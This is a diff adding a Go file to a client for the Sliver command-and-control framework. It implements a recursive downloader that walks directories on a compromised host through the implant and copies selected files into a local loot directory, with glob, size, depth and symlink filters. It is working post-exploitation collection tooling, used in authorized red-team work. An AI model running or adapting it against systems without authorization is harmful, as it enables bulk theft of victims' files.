@@ -0,0 +1,467 @@
+package main
+
+import (
+	"context"
+	"fmt"
+	"os"
+	"path"
+	"sort"
+	"strings"
+
+	"common"
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/protobuf/rpcpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/bishopfox/sliver/util"
+	"github.com/jedib0t/go-pretty/v6/table"
+)
+
+// when following symlinks a loop would otherwise walk forever, no real tree is this deep
+const maxFollowDepth = 40
+
+// the ways a symlink can be handled
+const (
+	symlinkSkip   = "skip"
+	symlinkFollow = "follow"
+	symlinkRecord = "record"
+)
+
+// downloadOptions decide what is walked and what is downloaded
+type downloadOptions struct {
+	include  []string
+	exclude  []string
+	types    []string
+	maxDepth int
+	maxSize  int64
+	maxTotal int64
+	symlinks string
+}
+
+// downloader walks remote roots and rebuilds whatever it downloads under the loot directory
+type downloader struct {
+	session  *clientpb.Session
+	rpc      rpcpb.SliverRPCClient
+	fileTag  string
+	options  downloadOptions
+	total    int64
+	files    int
+	skipped  map[string]int
+	links    []string
+	failures []error
+	walked   map[string]string
+	cwd      string
+}
+
+// Function to build the download options from the operators flags
+//
+// :param: include string -> comma separated globs files must match
+// :param: exclude string -> comma separated globs of files and directories to leave alone
+// :param: types string -> comma separated file extensions to download
+// :param: maxDepth int -> how deep to walk below each root, 0 for no limit
+// :param: maxSize string -> the largest file to download i.e. 10M
+// :param: maxTotal string -> the most to download in total i.e. 1G
+// :param: symlinks string -> skip, follow or record
+// :return: downloadOptions -> the options
+// :return: error -> if any of the flags are invalid
+func newDownloadOptions(include string, exclude string, types string, maxDepth int, maxSize string, maxTotal string, symlinks string) (downloadOptions, error) {
+	options := downloadOptions{
+		include:  splitList(include),
+		exclude:  splitList(exclude),
+		maxDepth: maxDepth,
+		symlinks: symlinks,
+	}
+	for _, pattern := range append(append([]string{}, options.include...), options.exclude...) {
+		if _, err := path.Match(pattern, ""); err != nil {
+			return options, fmt.Errorf("invalid glob %q: %v", pattern, err)
+		}
+	}
+	for _, extension := range splitList(types) {
+		options.types = append(options.types, "."+strings.TrimPrefix(extension, "."))
+	}
+	if maxDepth < 0 {
+		return options, fmt.Errorf("-max-depth must not be negative")
+	}
+	var err error
+	if options.maxSize, err = common.ParseSize(maxSize); err != nil {
+		return options, err
+	}
+	if options.maxTotal, err = common.ParseSize(maxTotal); err != nil {
+		return options, err
+	}
+	switch symlinks {
+	case symlinkSkip, symlinkFollow, symlinkRecord:
+	default:
+		return options, fmt.Errorf("-symlinks must be one of skip, follow, record not %q", symlinks)
+	}
+	return options, nil
+}
+
+// Function to split a comma separated flag value into its parts
+//
+// :param: value string -> i.e. "*.conf,*.yml"
+// :return: []string -> i.e. ["*.conf", "*.yml"]
+func splitList(value string) []string {
+	var parts []string
+	for _, part := range strings.Split(value, ",") {
+		part = strings.TrimSpace(part)
+		if part != "" {
+			parts = append(parts, part)
+		}
+	}
+	return parts
+}
+
+// Function to determine if a glob matches a path, globs with a / are matched against the full
+// path and the rest against just the name
+func matchesAny(patterns []string, fullPath string) bool {
+	for _, pattern := range patterns {
+		target := path.Base(fullPath)
+		if strings.Contains(pattern, "/") {
+			target = fullPath
+		}
+		if matched, _ := path.Match(pattern, target); matched {
+			return true
+		}
+	}
+	return false
+}
+
+func newDownloader(session *clientpb.Session, rpc rpcpb.SliverRPCClient, fileTag string, options downloadOptions) *downloader {
+	return &downloader{
+		session: session,
+		rpc:     rpc,
+		fileTag: fileTag,
+		options: options,
+		skipped: map[string]int{},
+		walked:  map[string]string{},
+	}
+}
+
+// Function to list a directory on the target, the implant answers a path that is not a
+// directory (or does not exist) with Exists false rather than an error
+//
+// :param: dir string -> the directory to list
+// :return: *sliverpb.Ls -> the listing, nil if dir is not a directory
+// :return: error -> if the listing failed
+func (d *downloader) list(dir string) (*sliverpb.Ls, error) {
+	ls, err := d.rpc.Ls(context.Background(), &sliverpb.LsReq{
+		Path:    dir,
+		Request: makeRequest(d.session),
+	})
+	if err := common.NewRPCError("ls", dir, err, ls.GetResponse()); err != nil {
+		return nil, err
+	}
+	if !ls.Exists {
+		return nil, nil
+	}
+	return ls, nil
+}
+
+// Function to download everything wanted below a remote root, a root that is a file is
+// downloaded on its own
+//
+// :param: root string -> the directory or file on the target
+// :return: None
+func (d *downloader) downloadRoot(root string) {
+	root = path.Clean("/" + root)
+	makeBorder("Downloading " + root)
+	ls, err := d.list(root)
+	if err != nil {
+		d.fail(err)
+		return
+	}
+	if ls == nil {
+		// not a directory, either a single file or nothing at all which the download will tell us
+		d.file(root)
+		return
+	}
+	real := root
+	if d.options.symlinks == symlinkFollow {
+		// a link below the root may lead back to it, whatever the root itself went through
+		if real, err = d.resolve(root); err != nil {
+			d.fail(err)
+			return
+		}
+	}
+	d.walk(root, real, ls, 1)
+}
+
+// Function to download a root that is a file, with the same filters as a file found by the walk.
+// Its parent is listed for the size and mode the walk would have had
+//
+// :param: root string -> the file on the target
+// :return: None
+func (d *downloader) file(root string) {
+	if matchesAny(d.options.exclude, root) {
+		d.skip(root, "excluded")
+		return
+	}
+	parent, err := d.list(path.Dir(root))
+	if err != nil || parent == nil {
+		// the parent can not be listed, the download still tells us if the file is there
+		d.consider(root, -1)
+		return
+	}
+	for _, fi := range parent.Files {
+		if fi.Name != path.Base(root) {
+			continue
+		}
+		switch {
+		case strings.HasPrefix(fi.Mode, "L"):
+			// a link to a file, its size is only known once it is downloaded
+			d.consider(root, -1)
+		case isSpecialFile(fi.Mode):
+			d.skip(root, "special file")
+		default:
+			d.consider(root, fi.Size)
+		}
+		return
+	}
+	d.consider(root, -1)
+}
+
+// Function to walk a listed directory, downloading what the options select and descending
+// into subdirectories until the maximum depth
+//
+// :param: dir string -> the directory that was listed
+// :param: real string -> where dir is with every symlink resolved, two paths to one directory share it
+// :param: ls *sliverpb.Ls -> its listing
+// :param: depth int -> how deep the entries of dir are below the root, starting at 1
+// :return: None
+func (d *downloader) walk(dir string, real string, ls *sliverpb.Ls, depth int) {
+	if _, ok := d.walked[real]; ok {
+		return
+	}
+	d.walked[real] = dir
+
+	files := ls.Files
+	sort.Slice(files, func(i, j int) bool { return files[i].Name < files[j].Name })
+	for _, fi := range files {
+		fullPath := path.Join(dir, fi.Name)
+		if matchesAny(d.options.exclude, fullPath) {
+			d.skip(fullPath, "excluded")
+			continue
+		}
+
+		switch {
+		case strings.HasPrefix(fi.Mode, "L"):
+			d.symlink(fullPath, fi, depth)
+		case fi.IsDir:
+			d.descend(fullPath, path.Join(real, fi.Name), depth)
+		case isSpecialFile(fi.Mode):
+			// reading a device or a fifo would hang or never end
+			d.skip(fullPath, "special file")
+		default:
+			d.consider(fullPath, fi.Size)
+		}
+	}
+}
+
+// Function to handle a symlink according to the -symlinks policy
+func (d *downloader) symlink(fullPath string, fi *sliverpb.FileInfo, depth int) {
+	switch d.options.symlinks {
+	case symlinkSkip:
+		d.skip(fullPath, "symlink")
+		return
+	case symlinkRecord:
+		d.links = append(d.links, fullPath)
+		return
+	}
+
+	// the listing describes the link itself, listing through it tells us what it points at
+	ls, err := d.list(fullPath)
+	if err != nil {
+		d.fail(err)
+		return
+	}
+	if ls == nil {
+		// points at a file, its size is only known once it is downloaded
+		d.consider(fullPath, -1)
+		return
+	}
+	// a link back up the tree i.e. /usr/bin/X11 -> . leads to a directory that is already walked
+	real, err := d.resolve(fullPath)
+	if err != nil {
+		d.fail(err)
+		return
+	}
+	if _, ok := d.walked[real]; ok {
+		d.skip(fullPath, "already walked")
+		return
+	}
+	if !d.deepEnough(depth) {
+		d.walk(fullPath, real, ls, depth+1)
+	} else {
+		d.skip(fullPath, "max depth")
+	}
+}
+
+// Function to find where a directory is with every symlink on the way resolved. The implant
+// answers Ls with the path as we asked for it, a Cd answers with the working directory it ended
+// up in which the kernel gives resolved. The implants working directory is put back after
+//
+// :param: dir string -> the directory on the target
+// :return: string -> the resolved path, dir itself if the implant could not change into it
+// :return: error -> if the implant could not be asked
+func (d *downloader) resolve(dir string) (string, error) {
+	if d.cwd == "" {
+		pwd, err := d.rpc.Pwd(context.Background(), &sliverpb.PwdReq{Request: makeRequest(d.session)})
+		if err := common.NewRPCError("pwd", "", err, pwd.GetResponse()); err != nil {
+			return "", err
+		}
+		d.cwd = pwd.Path
+	}
+	cd, err := d.rpc.Cd(context.Background(), &sliverpb.CdReq{Path: dir, Request: makeRequest(d.session)})
+	if err := common.NewRPCError("cd", dir, err, cd.GetResponse()); err != nil {
+		return "", err
+	}
+	back, err := d.rpc.Cd(context.Background(), &sliverpb.CdReq{Path: d.cwd, Request: makeRequest(d.session)})
+	if err := common.NewRPCError("cd", d.cwd, err, back.GetResponse()); err != nil {
+		return "", err
+	}
+	// a Cd the implant can not make leaves it where it was, which tells us nothing about dir
+	if cd.Path == d.cwd {
+		return dir, nil
+	}
+	return cd.Path, nil
+}
+
+// Function to walk into a subdirectory unless it is past the maximum depth
+func (d *downloader) descend(dir string, real string, depth int) {
+	if d.deepEnough(depth) {
+		d.skip(dir, "max depth")
+		return
+	}
+	ls, err := d.list(dir)
+	if err != nil {
+		d.fail(err)
+		return
+	}
+	if ls != nil {
+		d.walk(dir, real, ls, depth+1)
+	}
+}
+
+// Function to determine if entries at this depth must not be descended into
+func (d *downloader) deepEnough(depth int) bool {
+	if d.options.maxDepth > 0 {
+		return depth >= d.options.maxDepth
+	}
+	return d.options.symlinks == symlinkFollow && depth >= maxFollowDepth
+}
+
+// Function to decide if a file is wanted and download it if so
+//
+// :param: fullPath string -> the file on the target
+// :param: size int64 -> its size from the listing, -1 if unknown
+// :return: None
+func (d *downloader) consider(fullPath string, size int64) {
+	if len(d.options.include) > 0 && !matchesAny(d.options.include, fullPath) {
+		d.skip(fullPath, "not included")
+		return
+	}
+	if len(d.options.types) > 0 && !hasExtension(fullPath, d.options.types) {
+		d.skip(fullPath, "file type")
+		return
+	}
+	if d.options.maxSize > 0 && size > d.options.maxSize {
+		d.skip(fullPath, "larger than -max-size")
+		return
+	}
+	if d.options.maxTotal > 0 && d.total+size > d.options.maxTotal {
+		d.skip(fullPath, "over -max-total")
+		return
+	}
+	d.fetch(fullPath, size)
+}
+
+// Function to download a file into the loot directory
+//
+// :param: fullPath string -> the file on the target
+// :param: size int64 -> its size from the listing, -1 if unknown
+// :return: None
+func (d *downloader) fetch(fullPath string, size int64) {
+	localPath := d.fileTag + "/" + fullPath
+	result, err := common.DownloadToFile(makeRequest(d.session), d.rpc, fullPath, localPath, size, true)
+	if err != nil {
+		d.fail(err)
+		return
+	}
+	// a followed symlink had no size to check before the download
+	if d.options.maxSize > 0 && result.Size > d.options.maxSize {
+		os.Remove(localPath)
+		d.skip(fullPath, "larger than -max-size")
+		return
+	}
+	if d.options.maxTotal > 0 && d.total+result.Size > d.options.maxTotal {
+		os.Remove(localPath)
+		d.skip(fullPath, "over -max-total")
+		return
+	}
+	d.files++
+	d.total += result.Size
+	fmt.Printf("[*] %s (%s) sha256 %s\n", fullPath, util.ByteCountBinary(result.Size), result.SHA256)
+}
+
+func (d *downloader) skip(fullPath string, reason string) {
+	d.skipped[reason]++
+	fmt.Printf("[-] Skipping %s, %s\n", fullPath, reason)
+}
+
+func (d *downloader) fail(err error) {
+	d.failures = append(d.failures, err)
+	fmt.Println("[!]", err)
+}
+
+// Function to determine if a FileInfo.Mode is a device, pipe, socket or anything else that is not a regular file
+func isSpecialFile(mode string) bool {
+	return mode != "" && strings.ContainsAny(mode[:1], "DpSc?")
+}
+
+// Function to determine if a path ends in one of the extensions
+func hasExtension(fullPath string, extensions []string) bool {
+	extension := strings.ToLower(path.Ext(fullPath))
+	for _, wanted := range extensions {
+		if extension == strings.ToLower(wanted) {
+			return true
+		}
+	}
+	return false
+}
+
+// Function to print what was downloaded, skipped and failed
+//
+// :return: None
+func (d *downloader) printSummary() {
+	makeBorder("Download Summary")
+	fmt.Printf("[*] Downloaded %d files, %s into %s\n", d.files, util.ByteCountBinary(d.total), d.fileTag)
+
+	if len(d.skipped) > 0 {
+		tw := table.NewWriter()
+		tw.AppendHeader(table.Row{"Skipped", "Files"})
+		var reasons []string
+		for reason := range d.skipped {
+			reasons = append(reasons, reason)
+		}
+		sort.Strings(reasons)
+		for _, reason := range reasons {
+			tw.AppendRow(table.Row{reason, d.skipped[reason]})
+		}
+		fmt.Printf("%s\n", tw.Render())
+	}
+	if len(d.links) > 0 {
+		fmt.Println("[*] Symlinks recorded, not downloaded:")
+		for _, link := range d.links {
+			fmt.Println("   ", link)
+		}
+	}
+	if len(d.failures) > 0 {
+		tw := table.NewWriter()
+		tw.AppendHeader(table.Row{"Kind", "Error"})
+		for _, err := range d.failures {
+			tw.AppendRow(table.Row{common.ClassifyError(err).String(), err.Error()})
+		}
+		fmt.Printf("%s\n", tw.Render())
+		fmt.Printf("[!] %d downloads failed\n", len(d.failures))
+	}
+}